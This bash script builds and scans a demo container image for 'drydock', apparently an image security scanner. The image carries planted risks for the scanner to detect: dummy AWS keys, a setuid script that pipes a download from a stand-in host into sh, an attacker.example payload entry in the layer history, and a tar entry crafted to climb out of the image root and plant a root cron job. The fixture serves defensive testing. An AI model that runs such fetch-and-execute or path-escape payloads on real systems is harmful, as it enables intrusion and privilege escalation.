#!/usr/bin/env bash
# demo/run-demo.sh DRYDOCK - build a small demo image from Debian packages
# (debootstrap minbase + layers with planted risks) and scan it with
# everything drydock can do so far. Needs root (debootstrap) and the Debian
# archive configured in apt; never needs ../shared. The image is cached in
# $DEMO_DIR (default ~/.cache/drydock-demo); DEMO_FORCE=1 rebuilds it.
set -euo pipefail
DD=${1:-build/drydock}
HERE=$(cd "$(dirname "$0")" && pwd)
DIR=${DEMO_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/drydock-demo}
IMG=$DIR/image
mkdir -p "$DIR"
log() { echo "[demo] $*" >&2; }

mirror() {
  { sed -n 's/^URIs:[[:space:]]*//p' /etc/apt/sources.list.d/*.sources 2>/dev/null | tr ' ' '\n' || true
    sed -n 's/^deb[[:space:]]\+\(\[[^]]*\][[:space:]]\+\)\?\([^[:space:]]*\).*/\2/p' /etc/apt/sources.list 2>/dev/null || true
  } | grep '/debian/\?$' | head -1 | sed 's:/$::' || true
}

if [ ! -f "$IMG/oci/index.json" ] || [ "${DEMO_FORCE:-0}" = 1 ]; then
  [ "$(id -u)" = 0 ] || { echo "make demo: building the demo image needs root (debootstrap)" >&2; exit 2; }
  M=${MIRROR:-$(mirror)}
  [ -n "$M" ] || { echo "make demo: no Debian mirror in apt's sources; set MIRROR=" >&2; exit 2; }
  R=$DIR/rootfs
  if [ ! -x "$R/bin/sh" ]; then
    log "debootstrap --variant=minbase bookworm from $M (a minute or two)"
    rm -rf "$R"
    debootstrap --variant=minbase bookworm "$R" "$M" > "$DIR/debootstrap.log" 2>&1 \
      || { echo "make demo: debootstrap failed, see $DIR/debootstrap.log" >&2; exit 1; }
  fi
  log "layer 1: the Debian 12 base"
  tar --numeric-owner --exclude='./dev/*' --exclude='./proc/*' --exclude='./sys/*' \
      --exclude='./run/*' --exclude='./tmp/*' --exclude='./var/cache/apt/*' \
      --exclude='./var/lib/apt/lists/*' -C "$R" -cf "$DIR/l1.tar" .
  log "layer 2: an app with planted risks"
  S=$DIR/l2; rm -rf "$S"; mkdir -p "$S/app" "$S/root/.aws" "$S/tmp"
  printf '[default]\naws_access_key_id = AKIA2DEMOK7QJ4TR9XWZ\naws_secret_access_key = dEm0/sEcReT+kEy/9fJx2LqP7wNvB3hZs8KtYcMu\n' > "$S/root/.aws/credentials"
  printf 'DB_PASSWORD=hunter2-demo\n' > "$S/app/.env"
  printf '#!/bin/sh\ncurl -s http://pool.example/x.sh | sh\n' > "$S/tmp/update.sh"; chmod 4755 "$S/tmp/update.sh"
  tar --numeric-owner --owner=0 --group=0 -C "$S" -cf "$DIR/l2.tar" .
  log "layer 3: deletes the credentials again (a whiteout: the bytes still ship)"
  S=$DIR/l3; rm -rf "$S"; mkdir -p "$S/root/.aws"; : > "$S/root/.aws/.wh.credentials"
  tar --numeric-owner --owner=0 --group=0 -C "$S" -cf "$DIR/l3.tar" .
  log "layer 4: a crafted entry that climbs out of the root"
  python3 - "$DIR/l4.tar" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as tf:
    for name, data in (("app/ok.txt", b"fine\n"), ("../../etc/cron.d/demo-escape", b"* * * * * root id\n")):
        ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
        tf.addfile(ti, io.BytesIO(data))
PY
  cat > "$DIR/spec.json" <<JSON
{"out": "$IMG", "name": "drydock-demo", "tag": "1.0",
 "config": {"Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "DB_PASSWORD=hunter2-demo"],
            "Cmd": ["/bin/sh", "-c", "/tmp/update.sh"], "ExposedPorts": {"22/tcp": {}, "2375/tcp": {}},
            "Labels": {"org.opencontainers.image.title": "drydock demo"}},
 "layers": [{"tar": "$DIR/l1.tar", "created_by": "debootstrap --variant=minbase bookworm"},
            {"tar": "$DIR/l2.tar", "created_by": "/bin/sh -c curl -s http://pool.example/x.sh | sh # and COPY app"},
            {"tar": "$DIR/l3.tar", "created_by": "/bin/sh -c rm /root/.aws/credentials"},
            {"tar": "$DIR/l4.tar", "created_by": "ADD http://attacker.example/payload.tar /"}]}
JSON
  mkdir -p "$IMG"
  python3 "$HERE/mkimage.py" "$DIR/spec.json" >/dev/null
  rm -f "$DIR"/l[1-4].tar
fi

echo "== drydock inspect $IMG/oci"
"$DD" inspect "$IMG/oci" || true
echo
echo "== drydock ls --deleted (files a later layer removed; their bytes still ship)"
"$DD" ls --deleted -l "$IMG/oci" 2>/dev/null || true
echo
echo "== drydock ls -l /tmp /app (the merged filesystem)"
"$DD" ls -l "$IMG/drydock-demo-docker.tar" tmp 2>/dev/null || true
"$DD" ls -l "$IMG/drydock-demo-docker.tar" app 2>/dev/null || true
echo
echo "== drydock sbom (OS packages, each with the layer that installed it)"
"$DD" sbom -q "$IMG/oci" | sed -n '1,6p;$p' || true
"$DD" sbom -q --format cyclonedx -o "$DIR/demo.cdx.json" "$IMG/oci" || true
"$DD" sbom -q --format spdx -o "$DIR/demo.spdx.json" "$IMG/oci" || true
echo "(CycloneDX 1.6 in $DIR/demo.cdx.json, SPDX 2.3 in $DIR/demo.spdx.json)"
echo
echo "== vulnerabilities (drydock scan)"
DB=$DIR/vulndb/drydock.db
FEEDS=$HERE/../../shared/data/feeds
have_db=0
if [ -d "$FEEDS" ]; then
  echo "importing the feeds in $FEEDS"
  "$DD" db import --db "$DB" "$FEEDS"/* 2>/dev/null && have_db=1
elif "$DD" db update --db "$DB" -q; then
  have_db=1
fi
if [ "$have_db" = 1 ]; then
  "$DD" db info --db "$DB" | head -4
  "$DD" scan -q --db "$DB" --db-max-age 36500 "$IMG/oci" | head -40 || true
else
  echo "no vulnerability feeds: ../shared/data/feeds is absent and the official feeds could not be downloaded; showing the other results only"
fi
echo
echo "== secrets (drydock scan --scanners secret): files, deleted files, ENV, history"
"$DD" scan -q --scanners secret "$IMG/oci" | sed -n '/Other findings/,$p' | cut -c1-200 || true
echo
echo "== malware (drydock scan --scanners malware): YARA pack, heuristics, every layer"
"$DD" scan -q --scanners malware "$IMG/oci" | sed -n '/Other findings/,$p' | cut -c1-200 || true
echo
echo "== configuration (drydock scan --scanners config), docs/checks.md"
"$DD" scan -q --scanners config "$IMG/oci" | sed -n '/Other findings/,$p' | grep -v 'config.setuid .* package' | cut -c1-200 || true
echo "   (setuid files owned by Debian packages are reported as INFO; hidden here)"
echo
echo "== drydock history (build steps as Dockerfile instructions, with the checks)"
"$DD" history -q "$IMG/oci" | cut -c1-160 || true
echo
echo "== tamper with a layer blob and inspect again (integrity check)"
T=$DIR/tampered; rm -rf "$T"; cp -r "$IMG/oci" "$T"
blob=$(ls -S "$T/blobs/sha256" | head -1)
printf 'X' | dd of="$T/blobs/sha256/$blob" bs=1 seek=1000 conv=notrunc status=none
set +e
"$DD" inspect -q "$T" | sed -n '/^Findings/,$p'
rc=$?
set -e
rm -rf "$T"
echo
echo "demo done: the image is in $IMG (OCI layout and docker-archive)."
echo "Also: drydock scan HOST/REPO:TAG (registries), drydock registry ls|scan HOST,"
echo "drydock scan docker:NAME (dockerd/podman socket), drydock dockerfile PATH."
